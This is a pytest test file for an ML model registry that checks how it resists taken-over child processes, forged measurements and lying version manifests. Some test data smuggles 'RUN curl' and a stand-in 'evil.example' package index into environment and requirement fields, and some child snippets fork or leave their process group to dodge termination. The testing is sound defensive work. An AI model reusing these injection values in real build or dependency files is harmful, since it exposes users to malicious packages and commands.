"""What a hostile version, a hostile measurement or a child that was taken over tries, and what comes of it."""

from __future__ import annotations

import json
import signal
import sys
import time
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from builder import World
from sklearn.linear_model import LogisticRegression

from gitops_registry import cage, paths
from gitops_registry.child import talk
from gitops_registry.claims import contradicted_slices
from gitops_registry.errors import RegistryError
from gitops_registry.exports import TARGETS
from gitops_registry.exports.subject import Subject
from gitops_registry.formats import open_model
from gitops_registry.formats.loaded import Trust
from gitops_registry.manifest.columns import Column, Parameter, Signature
from gitops_registry.manifest.facts import Artifact, Environment, Evaluation, EvaluationData, Person, Version
from gitops_registry.manifest.figures import Group, Slice
from gitops_registry.manifest.kinds import Card
from gitops_registry.manifest.writing import dump
from gitops_registry.pointer import pointer
from gitops_registry.policy.facts import by_group
from gitops_registry.proving import measure_changed
from gitops_registry.reference import Reference
from gitops_registry.trees import digest_of_members, only_digested, read_folder

SOME = np.random.default_rng(7)
NUMBERS = pd.DataFrame(SOME.normal(size=(80, 2)).round(3), columns=["a", "b"])
TRUTH = pd.Series((NUMBERS["a"] + SOME.normal(0, 0.3, 80) > 0).astype(int), name="label")
RIGHT = Reference("toy", 1)


def fitted(sign: int = 1) -> Any:
    return LogisticRegression().fit(NUMBERS * sign, TRUTH)


@pytest.fixture(scope="module")
def base(template: Path, tmp_path_factory: pytest.TempPathFactory) -> World:
    """toy@1 is right and pinned to its data, by group of `side`; toy@2 answers the contrary."""
    folder = tmp_path_factory.mktemp("attacked")
    world = World(folder / "world", template=template)
    table = folder / "holdout.csv"
    NUMBERS.assign(label=TRUTH, side=["left", "right"] * 40).to_csv(table, index=False)
    for sign in (1, -1):
        world.registry.register("toy", fitted(sign), X=NUMBERS, y=TRUTH)
    world.registry.set_evaluation("toy", table, target="label", slices=["side"], direct=True)
    return world


@pytest.fixture
def world(base: World, tmp_path: Path) -> World:
    return World(tmp_path / "world", template=base.root)


def version_of(world: World, number: int = 1, revision: str | None = None) -> Version:
    return world.registry.place.snapshot(revision).known_version(Reference("toy", number))


def proposed(world: World, *versions: Version) -> str:
    """Return a branch that brings versions as somebody wrote them."""
    files: dict[str, Any] = {}
    for number, version in enumerate(versions, 3):
        files[paths.version_path("toy", number)] = dump(version, paths.version_path("toy", number))
        files |= {paths.pointer_path("toy", number, a.file): pointer(a) for a in version.artifacts}
    return world.branch(files)


def measured(world: World, head: str) -> list[Any]:
    return measure_changed(world.registry.place, base="main", head=head)


# ── what the child may do to whoever asked


def acting(tmp_path: Path, code: str) -> str:
    """Return an interpreter that does something else than it is told, as one that a model has taken over."""
    script = tmp_path / "taken-over"
    script.write_text(f"#!{sys.executable} -IS\nimport os, signal, sys, time\n{code}\n")
    script.chmod(0o755)
    return str(script)


def talked(code: str, wait: float = 60) -> Any:
    return talk([sys.executable, "-ISc", code], b"", until=time.monotonic() + wait, longest=1000)


def test_a_child_that_closes_its_pipes_and_stays_is_ended() -> None:
    done = talked("import os, time\nos.close(1); os.close(2); time.sleep(600)", wait=0.5)
    assert done.is_late
    assert done.code == -signal.SIGKILL


def test_what_a_child_leaves_behind_in_its_group_is_ended() -> None:
    code = "import os, time\npid = os.fork()\nif pid == 0:\n os.closerange(0, 9); time.sleep(600)\nprint(pid)"
    status = Path(f"/proc/{int(talked(code).output)}/stat")
    deadline = time.monotonic() + 20
    while status.exists() and status.read_text().split()[2] != "Z" and time.monotonic() < deadline:
        time.sleep(0.01)
    assert not status.exists() or status.read_text().split()[2] == "Z"


def test_a_child_that_leaves_its_group_is_ended_all_the_same() -> None:
    done = talked("import os, time\nos.setpgid(0, os.getpgid(os.getppid())); time.sleep(600)", wait=0.5)
    assert done.code == -signal.SIGKILL


@pytest.mark.parametrize(
    ("said", "error"),
    [
        ("print('true\\n{]')", "what it said is no answer"),
        ("print('true\\n[1]')", "what it said is no answer"),
        ("print('true\\n' + '[' * 100_000)", "what it said is no answer"),
        ("print('true', flush=True); os.kill(os.getpid(), signal.SIGRTMIN + 3)", "signal "),
        ("print('true', flush=True); sys.exit('\\x1b[2Jall is well')", "?[2Jall is well"),
    ],
)
def test_nonsense_of_a_child_is_one_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, said: str, error: str
) -> None:
    monkeypatch.setattr(cage, "python", acting(tmp_path, said))
    (one,) = cage.examine([{"name": "toy@1"}])
    assert error in one.error
    assert one.error.isprintable()


def test_a_child_that_is_taken_over_answers_for_one_version_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    forged = "print('true'); [print('{\"metrics\": {\"accuracy\": 1.0}}') for _ in range(9)]"
    monkeypatch.setattr(cage, "python", acting(tmp_path, f"told = sys.stdin.read()\nif 'evil' in told: {forged}"))
    evil, good = {"name": "evil@1"}, {"name": "good@1"}
    together = cage.examine([evil, good])
    assert [one.error for one in together] == ["", ""]
    alone = cage.examine([evil, good], apart=True)
    assert [bool(one.error) for one in alone] == [False, True]


def test_a_folder_is_compared_in_the_child_too(tmp_path: Path) -> None:
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "MLmodel").write_text("flavors: {}\n")
    digest = digest_of_members(read_folder(folder, only_digested))[0]
    told = {"format": "mlflow", "file": str(folder), "sha256": digest.sha256}
    task = {"name": "toy@1", "model": told, "trust": {"types": [], "formats": []}}
    (folder / "MLmodel").write_text("flavors: {onnx: {data: model.onnx}}\n")
    nameless = {**task, "model": {**told, "sha256": None}}
    for one in cage.examine([task, nameless]):
        assert "changed while it was looked at" in one.error


ANSWER = {
    "metrics": {"accuracy": 1.0}, "rows": 80, "task": "binary-classification", "confusion_matrix": None, "slices": [],
    "misfits": [], "parities": {"onnx": {"rows": 80, "agreement": 1.0, "max_difference": 0.0}},
}  # fmt: skip


@pytest.mark.parametrize(
    "changed",
    [
        {"metrics": {"accuracy": float("nan")}}, {"metrics": {"accuracy": 10**400}}, {"metrics": {"accuracy": "1"}},
        {"metrics": {}}, {"rows": 0}, {"rows": None}, {"parities": {}}, {"slices": None}, {"misfits": 3},
        {"parities": {"onnx": {"rows": 80, "agreement": float("nan"), "max_difference": 0.0}}},
    ],
)  # fmt: skip
def test_an_answer_that_is_no_measurement_verifies_nothing(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, changed: dict[str, Any]
) -> None:
    said = json.dumps({**ANSWER, **changed})
    monkeypatch.setattr(cage, "python", acting(tmp_path, f"sys.stdin.read(); print('true'); print({said!r})"))
    (one,) = world.registry.remeasure([RIGHT])
    assert one.is_wrong
    assert one.found is None
    assert "cannot be read" in one.reason


# ── versions that say of themselves what is not so


def test_a_graph_that_names_no_original_is_compared_with_it_all_the_same(world: World) -> None:
    """The file that a loader prefers is another model's, and version.yaml does not say that it was converted."""
    right, contrary = version_of(world), version_of(world, 2)
    swapped = next(a for a in contrary.artifacts if a.format == "onnx").model_copy(update={"derived_from": None})
    model = right.artifacts[0]
    other = model.model_copy(update={"name": "other", "file": "other.skops"})
    chained = swapped.model_copy(update={"derived_from": "other"})
    one, two = measured(
        world,
        proposed(
            world,
            right.model_copy(update={"artifacts": (model, swapped)}),
            right.model_copy(update={"artifacts": (model, other, chained)}),
        ),
    )
    for found in (one, two):
        assert found.is_wrong
        assert "onnx agrees on" in found.reason


def test_a_classifier_that_is_called_a_regressor_is_not_measured_as_one(world: World) -> None:
    (one,) = measured(world, proposed(world, version_of(world).model_copy(update={"task": "regression"})))
    assert one.is_wrong
    assert "its task is regression, and the model's is binary-classification" in one.reason


def test_a_version_of_which_nothing_could_be_compared_is_not_told_as_verified(world: World) -> None:
    elsewhere = EvaluationData(dataset="elsewhere", rows=9, target="label", sha256="0" * 64)
    head = proposed(world, version_of(world).model_copy(update={"evaluation": elsewhere, "metrics": {"accuracy": 1.0}, "claimed": ("accuracy",)}))  # fmt: skip
    done = world.cli("verify", "--changed", "--measure", "--base", "main", "--head", head)
    assert "· toy@3: the registered metrics are of other rows" in done.stdout
    assert "✓" not in done.stdout


# ── measurements that nobody made


def forged(world: World, number: int = 2, **changed: Any) -> str:
    """Return a branch that appends a measurement on the pinned data, as if somebody had made it."""
    pinned = world.registry.snapshot.known_model("toy").evaluation
    assert pinned is not None
    facts: dict[str, Any] = {
        "created": datetime(2026, 11, 1, tzinfo=UTC), "author": Person(name="bob"), "metrics": {"accuracy": 0.99},
        "dataset": EvaluationData(dataset="holdout", rows=80, target=pinned.target, sha256=pinned.sha256),
    }  # fmt: skip
    path = paths.evaluation_path("toy", number, "20261101T000000Z")
    return world.branch({path: dump(Evaluation(**{**facts, **changed}), path)})


SIDES = Slice(
    column="side", groups=tuple(Group(value=v, rows=40, metrics={"accuracy": 0.5}) for v in ("left", "right"))
)


@pytest.mark.parametrize(
    ("groups", "said"),
    [
        (SIDES.groups, ""),
        (SIDES.groups[:1], 'side has no group "right"'),
        ((*SIDES.groups, Group(value=1, rows=1)), "side has a group 1"),
        (
            (SIDES.groups[0], Group(value="right", rows=40, metrics={"accuracy": 0.99})),
            "accuracy is 0.99, and not 0.5,",
        ),
        ((SIDES.groups[0], Group(value="right", rows=400)), "there are 400 rows, and not 40,"),
    ],
)
def test_groups_that_vanish_from_a_measurement_or_are_better_there_are_found(
    groups: tuple[Group, ...], said: str
) -> None:
    found = list(contradicted_slices([Slice(column="side", groups=groups), Slice(column="b", groups=groups)], [SIDES]))
    assert len(found) == bool(said)
    assert not said or said in found[0]


def test_a_measurement_that_nobody_made_is_measured_again_with_its_groups(world: World) -> None:
    group = Group(value="left", rows=40, metrics={"accuracy": 0.99})
    (one,) = measured(world, forged(world, slices=(Slice(column="side", groups=(group,)),)))
    assert one.reference == Reference("toy", 2)
    assert one.is_wrong
    assert "the measurement of 2026-11-01 00:00 says that accuracy is 0.99, and it is 0." in one.reason
    assert 'side has no group "right"' in one.reason
    assert "accuracy is 0.99, and not 0." in one.reason


def test_a_metric_that_is_called_rows_is_no_number_of_rows() -> None:
    told = by_group([[Slice(column="side", groups=(Group(value="left", rows=3, metrics={"rows": 1e9}),))]])
    assert told["side"]["left"]["rows"] == 3.0


# ── exports of a version that lies


EVIL = "https://evil.example/simple"


def subject(world: World, folder: Path, example: bytes | None = None, **changes: Any) -> Subject:
    """Return what an exporter is given of toy@1; `changes` are fields of its version.yaml."""
    version = version_of(world)
    world.registry.pull("toy", 1, to=folder)
    files = {a.name: folder / a.file for a in version.artifacts}
    if example is not None:
        files["input_example"] = folder / "input_example.json"
        files["input_example"].write_bytes(example)
        told = Artifact(name="input_example", file="input_example.json", format="json", size=9, md5="0" * 32, sha256="0" * 64)  # fmt: skip
        changes["artifacts"] = (*version.artifacts, told)
    return Subject(RIGHT, version.model_copy(update=changes), Card(), "# toy\n", files)


def written(folder: Path) -> bytes:
    return b"".join(file.read_bytes() for file in sorted(folder.rglob("*")) if file.is_file())


@pytest.mark.parametrize("target", ["bentoml", "mlflow"])
def test_neither_pins_nor_file_names_of_a_version_say_what_an_export_installs_or_imports(
    base: World, tmp_path: Path, target: str
) -> None:
    lines = (f"onnxruntime==1.0\n--index-url {EVIL}", f"numpy==1.0 --find-links {EVIL}", f"pandas==2.0 @ {EVIL}")
    module = next(a for a in version_of(base).artifacts if a.format == "onnx").model_copy(
        update={"file": "onnxruntime.py"}
    )
    hostile = Environment(python=f"3.11\nRUN curl {EVIL}", platform="x", requirements=lines)
    given = subject(base, tmp_path / "in", environment=hostile)
    (tmp_path / "in/onnxruntime.py").write_bytes(given.files["onnx"].read_bytes())
    given.files["onnx"] = tmp_path / "in/onnxruntime.py"  # type: ignore[index]
    given = replace(given, version=given.version.model_copy(update={"artifacts": (module,)}))
    TARGETS[target].write(given, tmp_path / "out")
    assert EVIL.encode() not in written(tmp_path / "out")
    assert {f.name for f in (tmp_path / "out").rglob("*.py")} <= {"registered_model.py", "registered_service.py"}


def test_a_bento_that_cannot_be_built_leaves_this_process_where_it_was(base: World, tmp_path: Path) -> None:
    inputs = (Column(name="a", type="double", minimum=10**400), Column(name="b", type="double"))
    here, imports = Path.cwd(), list(sys.path)
    with pytest.raises(RegistryError, match="BentoML cannot build"):
        TARGETS["bentoml"].write(subject(base, tmp_path / "in", signature=Signature(inputs=inputs)), tmp_path / "out")
    assert (Path.cwd(), sys.path) == (here, imports)


def test_a_signature_that_a_target_has_no_words_for_is_one_line(base: World, tmp_path: Path) -> None:
    columns = tuple(Column(name=name, type="double") for name in "ab")
    odd = Signature(inputs=columns, parameters=(Parameter(name="key", type="binary"),))
    with pytest.raises(RegistryError, match="MLflow has no words for the signature of toy@1"):
        TARGETS["mlflow"].write(subject(base, tmp_path / "in", signature=odd), tmp_path / "out")


@pytest.mark.parametrize("example", [b"[" * 50_000, b'{"columns": 5, "data": 1}', b"3", b"\xff", b"[[NaN, 1e999]]"])
def test_an_example_that_is_nonsense_keeps_nobody_from_exporting(base: World, tmp_path: Path, example: bytes) -> None:
    TARGETS["mlflow"].write(subject(base, tmp_path / "in", example), tmp_path / "out")
    assert (tmp_path / "out/MLmodel").is_file()


@pytest.mark.parametrize(
    ("key", "value"),
    [("labels", "[[0], [1]]"), ("labels", "5"), ("labels", '["\\ud800", 1]'), ("labels", "[NaN, 1]"), ("columns", "3"), ("columns", '[{"a": 1}]'), ("columns", "[" * 50_000)],
)  # fmt: skip
def test_a_graph_whose_own_words_are_nonsense_is_not_opened(base: World, tmp_path: Path, key: str, value: str) -> None:
    import onnx

    graph = onnx.load(base.registry.pull("toy", 1, to=tmp_path)[1])
    for one in graph.metadata_props:
        one.value = value if one.key == f"gitops_registry.{key}" else one.value
    onnx.save(graph, tmp_path / "odd.onnx")
    with pytest.raises(RegistryError, match=r"odd\.onnx is not a readable ONNX model"):
        open_model("onnx", tmp_path / "odd.onnx", trust=Trust())
